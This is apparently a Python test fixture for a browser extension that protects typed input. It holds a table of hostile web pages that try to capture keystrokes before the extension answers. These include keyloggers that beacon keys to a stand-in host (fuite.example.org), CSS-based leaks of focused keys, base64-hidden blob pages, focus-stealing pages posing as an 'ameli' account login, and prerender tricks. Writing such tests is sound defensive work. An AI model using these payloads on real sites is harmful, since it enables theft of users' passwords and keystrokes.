"""Further pages that try to read what a patient does before anything was answered, of the same kinds as ``leaks``."""

# ruff: noqa: E501 (a table of pages)

from __future__ import annotations

import base64

from tests.extension.leaks import FIELD, FORM, SPY, TYPED, page

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="200"><input xmlns="http://www.w3.org/1999/xhtml"'
    ' id="secret"/></foreignObject><script>setInterval(() => { const v = document.getElementById("secret").value;'
    ' if (v) navigator.sendBeacon("https://fuite.example.org/leak?" + v); }, 15)</script></svg>'
)
XHTML = (
    '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Bienvenue</title></head><body><input id="secret" type="password"/>'
    '<script>addEventListener("keydown", (e) => navigator.sendBeacon("https://fuite.example.org/leak?" + e.key), true)</script></body></html>'
)


def _made(text: str, kind: str) -> str:
    return f'URL.createObjectURL(new Blob([atob("{base64.b64encode(text.encode()).decode()}")], {{type: "{kind}"}}))'


HEARS = "(w) => w.addEventListener('keydown', (e) => e.key.length === 1 && tell('first:' + e.key), true)"
KEYPAD = "".join(f"<button class=key data-key={c}>{c}</button>" for c in TYPED) + "<p id=secret></p>"


def keypad(*events: str) -> str:
    """Buttons that are pressed by some other event than a click."""
    listen = "".join(f"b.addEventListener('{event}', () => tell('{event}:' + b.textContent));" for event in events)
    return SPY + KEYPAD + f"<script>for (const b of document.querySelectorAll('.key')) {{ {listen} }}</script>"


DOCUMENTS = {
    "SVG on blob": f"<script>location = {_made(SVG, 'image/svg+xml')}</script>",
    "XHTML on blob": f"<script>location = {_made(XHTML, 'application/xhtml+xml')}</script>",
    "SVG in a frame": f"<iframe id=f></iframe><script>f.src = {_made(SVG, 'image/svg+xml')}</script>",
    "javascript: at the top": f"<script>const made = atob('{base64.b64encode(page(FORM).encode()).decode()}'); location = 'javascript:made'</script>",
    "javascript: in a frame": f"<script>made = atob('{base64.b64encode(page(FORM).encode()).decode()}')</script><iframe id=f src='javascript:parent.made'></iframe>",
    "object": f"<object id=f width=400 height=200></object><script>f.type = 'text/html'; f.data = {_made(page(FORM), 'text/html')}</script>",
    "embed": f"<embed id=f width=400 height=200 type='text/html'><script>f.src = {_made(page(FORM), 'text/html')}</script>",
    "blank frame heard at once": SPY + f"<script>const f = document.createElement('iframe'); f.id = 'f'; document.documentElement.append(f); ({HEARS})(f.contentWindow);"
    f"f.contentDocument.body.innerHTML = `{FIELD}`</script>",
    "frame of another host": "<iframe id=f src='//cadre-neutre.info/'></iframe>",
    "frame in a frame of another host": "<iframe id=f src='//cadre-neutre.info/autour'></iframe>",
    "listener borrowed from a frame that has gone": SPY + f"<script>const f = document.createElement('iframe'); document.documentElement.append(f); ({HEARS})(window);"
    f"const add = f.contentWindow.EventTarget.prototype.addEventListener; add.call(window, 'keypress', (e) => tell('borrowed:' + e.key), true); f.remove();</script>{FIELD}",
    "begins itself anew": f"<script>const made = atob('{base64.b64encode(page(FORM).encode()).decode()}'); setTimeout(() => {{ document.open(); document.write(made);"
    "document.close() }, 50)</script>",
    "writes into a frame": f"<iframe id=f></iframe><script>f.contentDocument.write(atob('{base64.b64encode(page(FORM).encode()).decode()}')); f.contentDocument.close()</script>",
    "stops every load": FORM + "<script>setInterval(() => window.stop(), 1)</script>",
    "loads itself again and again": FORM + "<script>setTimeout(() => location.reload(), 60)</script>",
    "moves without loading": FORM + "<script>setInterval(() => history.pushState(0, '', '/' + Math.random()), 50)</script>",
    "moves by fragments": FORM + "<script>setInterval(() => location.hash = Math.random(), 50)</script>",
    "many frames": FORM + "<script>for (let i = 0; i < 150; i++) document.documentElement.append(document.createElement('iframe'))</script>",
    "handlers as properties": FORM + "<script>onkeydown = document.onkeydown = (e) => tell('on:' + e.key); document.documentElement.onkeyup = onkeydown</script>",
    "form whose parts bear the names of what it can do": SPY + "<form id=secret tabindex=0>&nbsp;<button name=matches hidden></button></form>",
    "navigation intercepted": FORM + "<script>window.navigation?.addEventListener('navigate', (e) => { e.preventDefault(); })</script>",
}  # fmt: skip

"""Other kinds of documents, windows heard before they load, and pages that try to stay; ``f`` is the frame typed into."""

ARROWS = {
    "select": SPY + "<select id=secret><option>a<option>b<option>c</select><script>secret.oninput = () => tell('chosen:' + secret.value)</script>",
    "number": SPY + "<input id=secret type=number value=4><script>secret.oninput = () => tell('chosen:' + secret.value)</script>",
    "date": SPY + "<input id=secret type=date value=1950-04-04><script>secret.oninput = () => tell('chosen:' + secret.value)</script>",
    "wheel of one's own": SPY + "<div id=secret tabindex=0>4</div><script>secret.onkeydown = (e) => tell('chosen:' + e.key)</script>",
}  # fmt: skip

"""What is chosen with the arrow keys."""

POINTED = {
    "hover": keypad("mouseover", "pointerenter", "mousemove", "pointermove", "pointerrawupdate", "mouseenter"),
    "double click": keypad("dblclick"),
    "menu": keypad("contextmenu"),
    "focus": keypad("focus"),
    "style of what has the focus": SPY + KEYPAD + "<style>" + "".join(f".key[data-key='{c}']:focus {{ background: url('https://fuite.example.org/leak?focus{c}') }}" for c in TYPED) + "</style>",
    "slider": SPY + "<input class=key id=secret type=range min=0 max=9 value=0 style='width:400px'><script>setInterval(() => secret.value > 0 && tell('slid:' + secret.value), 15)</script>",
    "radio": SPY + "<label class=key><input id=secret type=radio name=a value=1>un</label><script>setInterval(() => secret.checked && tell('checked'), 15)</script>",
    "fields for keys": SPY + "<input class=key id=secret readonly onfocus='tell(\"focused\")'><div class=key contenteditable>0123456789</div>"
    "<script>document.onselectionchange = () => tell('caret:' + getSelection().anchorOffset)</script>",
    "a key that takes the pointer": keypad("gotpointercapture", "lostpointercapture") + "<script>const first = document.querySelector('.key');"
    "setInterval(() => { for (let id = 0; id < 9; id++) try { first.setPointerCapture(id) } catch {} }, 1)</script>",
    "label": SPY + "<label class=key for=secret>sept</label><input id=secret onfocus='tell(\"focused\")'>",
}  # fmt: skip
"""What is chosen with the pointer, by anything else than a click."""

ACCOUNT = "ameli - Mon compte"
TAKES_THE_FOCUS = (
    SPY
    + "<div id=away tabindex=0>.</div><script>setInterval(() => document.activeElement === away || (focus(), away.focus()), 5)</script>"
)
FOCUS_TAKEN = {
    "from its own field": page(FORM + TAKES_THE_FOCUS, ACCOUNT),
    "from a frame's field": page("<iframe src='//cadre-neutre.info/'></iframe>" + TAKES_THE_FOCUS, ACCOUNT),
    "from a strong host's frame": page("<iframe src='//ameli-lettre.fr/'></iframe>" + TAKES_THE_FOCUS),
}
"""Pages that listen where nobody thinks to be writing, while they or their frames are asked about."""


def rooted(mode: str) -> str:
    """A posing page whose only field stands in a shadow root, where it is not looked for before it has the focus."""
    return page(
        SPY
        + f"<div id=secret></div><script>const r = secret.attachShadow({{mode: '{mode}'}}); r.innerHTML = '<input type=password>';"
        "setInterval(() => r.firstChild.value && tell('rooted:' + r.firstChild.value), 15);"
        "addEventListener('keydown', (e) => (window.arrows = [...(window.arrows ?? []), e.key]), true)</script>",
        ACCOUNT,
    )


EDIT_CONTEXT = SPY + (
    "<canvas id=secret tabindex=0></canvas><script>secret.focus(); const c = new EditContext(); secret.editContext = c;"
    "for (const type of ['compositionstart', 'textupdate']) c.addEventListener(type, (e) => tell(type + (e.data ?? e.text)))</script>"
)
"""It is given to what has the focus already."""

_SWALLOWS = "<script>addEventListener('prerenderingchange', (e) => e.stopImmediatePropagation(), true)</script>"
_UNSEEN = page(_SWALLOWS + SPY + "<div tabindex=0>code</div>")
MADE_READY = page(
    "<script>fetch('https://fuite.example.org/ready?' + document.prerendering);"
    + f"const made = atob('{base64.b64encode(_UNSEEN.encode()).decode()}');"
    "document.open(); document.write(made); document.close()</script>"
)
"""Begins anew unseen, and lets nobody hear that it is shown."""


def leading_to(address: str) -> str:
    """A page that has another one made ready, with a link to it."""
    rules = f'{{"prerender": [{{"urls": ["{address}"], "eagerness": "immediate"}}]}}'
    return page(f'<a id=go href="{address}">Suite</a><script type=speculationrules>{rules}</script>')


SHOWN_AGAIN = page(
    "<input id=city><script>window.arrows = []; addEventListener('keydown', (e) => arrows.push(e.key), true);"
    "setInterval(() => dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true})), 1)</script>"
)
"""Says of itself that it comes back."""
